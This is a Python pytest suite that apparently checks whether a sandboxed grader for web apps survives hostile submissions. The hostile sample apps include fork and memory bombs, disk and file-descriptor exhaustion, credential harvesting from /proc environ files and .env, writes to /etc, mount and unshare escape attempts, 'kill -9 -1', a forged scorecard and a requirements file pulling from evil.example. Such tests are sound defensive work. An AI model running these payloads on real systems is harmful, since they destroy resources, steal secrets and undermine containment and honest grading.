"""Hostile web apps: the Procfile `web` process does the hostile thing; the grader must survive it."""

import os

import pytest

from .conftest import CLEAN_APP, check_web, write_app

pytestmark = pytest.mark.sandbox

# The worst case a hostile grade may take with the suite's small limits (build, release, 4 s start, shutdown).
GRADE_LIMIT = 45


def serve_after(prelude: str) -> str:
    """App source: run `prelude`, then serve HTTP on $PORT like the clean app."""
    return "import os, sys, time, socket, signal\n" + prelude + "\n" + CLEAN_APP


def grade_hostile(judge, tmp_path, app: str, **kwargs):
    kind, card, seconds = judge(write_app(tmp_path / "hostile", app, **kwargs))
    assert kind == "scorecard", card
    assert seconds < GRADE_LIMIT, f"took {seconds:.1f} s"
    # the sandbox ran, so the hostile code really was executed
    assert "sandbox" not in (card["error"] or ""), card["error"]
    return check_web(card)


def web_status(checks):
    return [c["status"] for c in checks.values() if c["factor"] == 7]


def test_fork_bomb(judge, tmp_path):
    app = """
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """
    checks = grade_hostile(judge, tmp_path, app)
    assert "pass" not in web_status(checks)


def test_memory_bomb(judge, tmp_path):
    app = """
        hoard = []
        while True:
            hoard.append(bytearray(50 * 1024 * 1024))
    """
    checks = grade_hostile(judge, tmp_path, app)
    assert "pass" not in web_status(checks)


def test_cpu_loop(judge, tmp_path):
    checks = grade_hostile(judge, tmp_path, "while True:\n    pass\n")
    assert "pass" not in web_status(checks)


def test_sleep_forever_ignoring_signals(judge, tmp_path):
    app = """
        import signal, time
        for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            time.sleep(1000)
    """
    checks = grade_hostile(judge, tmp_path, app)
    assert "pass" not in web_status(checks)


def test_sigterm_ignored_while_serving(judge, tmp_path):
    checks = grade_hostile(judge, tmp_path, serve_after("signal.signal(signal.SIGTERM, signal.SIG_IGN)"))
    assert "pass" in web_status(checks)  # it serves; the grade still ends, and nothing survives


def test_stdout_flood(judge, tmp_path):
    prelude = """
import threading
def flood(stream):
    line = b"x" * 65536
    while True:
        stream.write(line)
threading.Thread(target=flood, args=(sys.stdout.buffer,), daemon=True).start()
threading.Thread(target=flood, args=(sys.stderr.buffer,), daemon=True).start()
"""
    kind, card, seconds = judge(write_app(tmp_path / "hostile", serve_after(prelude)))
    assert kind == "scorecard"
    assert seconds < GRADE_LIMIT
    assert len(str(card)) < 200_000  # evidence quotes are bounded


def test_disk_fill(judge, tmp_path):
    prelude = """
for target in ("/workspace/fill", "/tmp/fill", "/dev/shm/fill", "fill-relative"):
    try:
        with open(target, "wb") as f:
            while True:
                f.write(b"\\0" * 1024 * 1024)
    except OSError:
        pass
i = 0
try:
    while True:
        open(f"/workspace/inode-{i}", "w").close(); i += 1
except OSError:
    pass
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))


def test_write_outside_the_workspace(judge, tmp_path, guard):
    outside = tmp_path / "outside-target"
    outside.mkdir()
    outside.chmod(0o777)
    prelude = f"""
targets = [{str(guard.sentinel_file)!r}, {str(outside / "pwned")!r}, "/etc/pwned", "/usr/pwned",
           "/root/pwned", "/work/main/pwned", "/proc/sys/kernel/hostname", "/pwned", "/dev/pwned"]
for target in targets:
    try:
        with open(target, "w") as f:
            f.write("pwned")
    except OSError:
        pass
for args in (["mount", "-t", "tmpfs", "x", "/usr"], ["chroot", "/"], ["unshare", "-r", "true"]):
    os.system(" ".join(args) + " 2>/dev/null")
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))
    assert list(outside.iterdir()) == []
    for path in ("/etc/pwned", "/usr/pwned", "/root/pwned", "/work/main/pwned", "/pwned"):
        assert not os.path.exists(path)


def test_read_the_graders_environment(judge, tmp_path):
    prelude = """
leak = dict(os.environ)
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            leak[pid] = open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
        except OSError:
            pass
for path in ("/proc/1/environ", "/proc/self/environ", "/etc/environment", "/work/main/.env"):
    try:
        leak[path] = open(path).read()
    except OSError:
        pass
print(leak); print(leak, file=sys.stderr)
open("/workspace/leak.log", "w").write(str(leak))
"""
    # guard checks that none of the grader's secrets appears in anything the grade returned
    grade_hostile(judge, tmp_path, serve_after(prelude))


def test_network_connect_to_the_host(judge, tmp_path, guard):
    prelude = f"""
for host in ("127.0.0.1", "10.0.2.2", "172.17.0.1", "192.168.1.1", "::1", "host.docker.internal"):
    try:
        s = socket.create_connection((host, {guard.listener_port}), timeout=0.3)
        s.sendall(b"pwned")
        print("CONNECTED", host)
    except OSError as e:
        print("no route", host, e)
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))
    # guard: the host listener got nothing


def test_daemon_that_double_forks(judge, tmp_path):
    prelude = """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.close(fd)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass
    os._exit(0)
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))


def test_fake_scorecard_output(judge, tmp_path):
    fake = '{"lab": "audit", "score": 100, "passed": true, "checks": [], "error": null}'
    app = f"""
        import sys, time
        print({fake!r}); print({fake!r}, file=sys.stderr)
        open("scorecard.json", "w").write({fake!r})
        time.sleep(60)
    """
    kind, card, _ = judge(write_app(tmp_path / "hostile", app))
    assert kind == "scorecard"
    assert card["passed"] is False
    assert card["score"] < 100
    assert "pass" not in web_status(check_web(card))


def test_symlinks_planted_where_the_grader_reads_and_writes(judge, tmp_path, guard):
    prelude = f"""
import shutil
victim = {str(guard.sentinel_file)!r}
for name in (".grader", "Procfile", "requirements.txt", "app.log", "leak.log", "scorecard.json", "logs"):
    try:
        if os.path.isdir(name) and not os.path.islink(name):
            shutil.rmtree(name)
        elif os.path.lexists(name):
            os.remove(name)
        os.symlink(victim, name)
    except OSError:
        pass
for name in ("etc", "root", "hostroot"):
    try: os.symlink("/" if name == "hostroot" else "/" + name, name)
    except OSError: pass
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))
    # guard: the sentinel is unchanged, whatever the grader did with those names afterwards


def test_kill_everything_it_can_see(judge, tmp_path):
    import subprocess

    bystander = subprocess.Popen(["sleep", "60"])
    try:
        prelude = "os.system('kill -9 -1 2>/dev/null'); os.system('kill -9 1 2>/dev/null')"
        grade_hostile(judge, tmp_path, serve_after(prelude))
        assert bystander.poll() is None
    finally:
        bystander.kill()
        bystander.wait()


def test_slow_drip_http_server(judge, tmp_path):
    app = """
        import os, socket, threading, time
        s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("0.0.0.0", int(os.environ["PORT"]))); s.listen(64)
        def drip(conn):
            conn.recv(65536)
            try:
                conn.sendall(b"HTTP/1.1 200 OK\\r\\n")
                while True:
                    conn.sendall(b"X-Drip: 1\\r\\n"); time.sleep(0.2)
            except OSError:
                pass
        while True:
            conn, _ = s.accept()
            threading.Thread(target=drip, args=(conn,), daemon=True).start()
    """
    grade_hostile(judge, tmp_path, app)


def test_thread_and_fd_exhaustion(judge, tmp_path):
    prelude = """
import threading
files = []
try:
    while True: files.append(open("/dev/null"))
except OSError:
    pass
del files
def park(): time.sleep(3600)
try:
    while True: threading.Thread(target=park, daemon=True).start()
except (RuntimeError, MemoryError):
    pass
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))


def test_hostile_requirements(judge, tmp_path):
    requirements = (
        "--index-url https://evil.example/simple\n"
        "--extra-index-url http://10.0.2.2/simple\n"
        "-e /etc\n"
        "evil @ file:///etc/passwd\n"
        "flask @ https://evil.example/flask.whl\n"
    )
    kind, card, seconds = judge(write_app(tmp_path / "hostile", CLEAN_APP, extra={"requirements.txt": requirements}))
    assert kind in ("scorecard", "refused")
    assert seconds < GRADE_LIMIT


def test_huge_file_count_at_run_time(judge, tmp_path):
    prelude = """
os.makedirs("many", exist_ok=True)
for i in range(30000):
    try:
        open(f"many/{i:06d}-{'x' * 100}", "w").close()
    except OSError:
        break
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))


def test_memory_outside_rlimits_tmpfs_memfd_and_shm(judge, tmp_path):
    prelude = """
import ctypes
os.system("unshare -Urm sh -c 'mount -t tmpfs none /tmp && head -c 2000000000 /dev/zero > /tmp/fill' 2>/dev/null")
libc = ctypes.CDLL(None)
for _ in range(64):
    libc.shmget(0, 256 * 1024 * 1024, 0o1600)
held = []
try:
    for _ in range(100):
        fd = os.memfd_create("hoard")
        os.write(fd, b"\\0" * (8 * 1024 * 1024 - 1))
        held.append(fd)
except OSError:
    pass
"""
    grade_hostile(judge, tmp_path, serve_after(prelude))


def test_a_service_that_never_answers_scores_at_most_40_and_cannot_pass(judge, tmp_path):
    kind, card, _ = judge(write_app(tmp_path / "sleepy", "import time\nwhile True:\n    time.sleep(1)\n"))
    assert kind == "scorecard", card
    assert card["score"] <= 40 and not card["passed"]
    checks = check_web(card)
    assert checks["port-binding.answers-http"]["status"] == "fail"
    assert checks["port-binding.answers-http"]["gate"]
    blocked = [c for c in checks.values() if c["evidence"].startswith("blocked: the web process never answered")]
    assert len(blocked) >= 8, [c["id"] for c in blocked]
    assert not [c for c in checks.values() if c["status"] == "error"]


def test_a_response_that_never_ends_does_not_count_as_an_answer(judge, tmp_path):
    app = """
        import os
        from http.server import BaseHTTPRequestHandler, HTTPServer

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Length", str(10**12))
                self.end_headers()
                chunk = b"x" * 65536
                while True:
                    self.wfile.write(chunk)

        HTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
    """
    checks = grade_hostile(judge, tmp_path, app)
    answer = checks["port-binding.answers-http"]
    assert answer["status"] == "fail" and "never completed" in answer["evidence"], answer["evidence"]


def test_a_web_process_that_dies_during_the_run_fails(judge, tmp_path):
    prelude = "signal.signal(signal.SIGALRM, lambda *_: os._exit(7))\nsignal.setitimer(signal.ITIMER_REAL, 1.5)"
    checks = grade_hostile(judge, tmp_path, serve_after(prelude))
    answer = checks["port-binding.answers-http"]
    assert answer["status"] == "fail", answer["evidence"]
    assert "exited with status 7" in answer["evidence"], answer["evidence"]
